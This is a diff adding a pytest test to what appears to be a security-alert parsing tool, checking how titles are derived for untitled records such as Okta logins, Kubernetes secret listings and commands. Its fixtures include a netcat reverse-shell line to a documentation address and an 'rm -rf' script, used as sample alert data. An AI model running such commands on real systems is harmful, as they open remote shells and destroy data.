@@ -85,6 +85,31 @@ def test_what_products_say_is_recognised(value, title, severity, observed_at, te
     )
 
 
+KUBERNETES = {"kind": "Event", "verb": "list", "objectRef": {"resource": "secrets"}, "user": {"username": "anonymous"}}
+
+
+@pytest.mark.parametrize(
+    ("value", "title"),
+    [
+        ({"eventType": "user.session.start", "displayMessage": "User login to Okta"}, "User login to Okta"),
+        ({"Operation": "FileDownloaded", "UserId": "ana"}, "FileDownloaded"),
+        (KUBERNETES, "list secrets by anonymous"),
+        (
+            {"appDisplayName": "Exchange", "userPrincipalName": "ana@corp.example"},
+            "sign-in to Exchange by ana@corp.example",
+        ),
+        ({"kind": "command", "command": "nc -e /bin/sh 192.0.2.1 4444"}, "nc -e /bin/sh 192.0.2.1 4444"),
+        ({"kind": "script", "text": {"command": "#!/bin/sh\n\n# tidy\nrm -rf /var/x\nexit"}}, "rm -rf /var/x"),
+        ({"command": "a" * 100 + " " + "b" * 50}, "a" * 100),
+        ({"command": "c" * 300}, "event"),
+        ({"command": "# nothing"}, "event"),
+        ({"method": "GET", "host": "shop.example", "uri": "/a?b=c"}, "GET shop.example/a"),
+    ],
+)
+def test_what_has_no_name_is_called_by_what_was_done(value, title):
+    assert record(value, "alert_json", "here:1").title == title
+
+
 def test_every_leaf_is_a_field_in_order_with_numbers_spelled_as_they_stood(tmp_path):
     text = '{"b": {"c": [1, 2.50, 1e5, {"d": null}]}, "a": true, "e": [], "f": {}, "g": ["x\\ny"]}'
     (alert,) = read(tmp_path / "a.json", text)
